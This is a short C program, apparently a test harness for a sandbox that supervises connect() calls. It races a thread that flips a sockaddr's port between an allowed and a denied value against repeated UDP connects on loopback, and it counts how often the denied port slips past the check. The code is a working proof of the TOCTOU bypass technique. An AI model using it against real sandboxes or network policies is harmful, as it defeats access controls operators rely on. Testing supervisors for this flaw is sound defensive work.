/* sup_connect_race.c — the sockaddr TOCTOU race: a thread flips the port of
 * a sockaddr between an allowed and a denied one while the main thread
 * connects UDP sockets. Usage: sup_connect_race ALLOWED_PORT DENIED_PORT N.
 * A connect that succeeds with the denied peer (getpeername) is a bypass. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct sockaddr_in target;
static volatile uint16_t *const port = &target.sin_port; /* every store happens */
static volatile uint16_t ports[2];

static void *flip(void *unused)
{
	(void)unused;
	for (;;) {
		*port = ports[1];
		*port = ports[0];
	}
	return NULL;
}

int main(int argc, char **argv)
{
	if (argc != 4)
		return 2;
	ports[0] = htons((uint16_t)atoi(argv[1]));
	ports[1] = htons((uint16_t)atoi(argv[2]));
	int n = atoi(argv[3]), bypass = 0, denied = 0, allowed = 0, other = 0;
	target.sin_family = AF_INET;
	target.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	target.sin_port = ports[0];
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	for (int i = 0; i < n; i++) {
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		if (connect(s, (struct sockaddr *)&target, sizeof(target)) == 0) {
			struct sockaddr_in peer;
			socklen_t len = sizeof(peer);
			getpeername(s, (struct sockaddr *)&peer, &len);
			if (peer.sin_port == ports[1])
				bypass++;
			else
				allowed++;
		} else if (errno == EACCES) {
			denied++;
		} else {
			other++;
		}
		close(s);
	}
	printf("bypass=%d denied=%d allowed=%d other=%d\n", bypass, denied, allowed, other);
	return bypass ? 1 : 0;
}
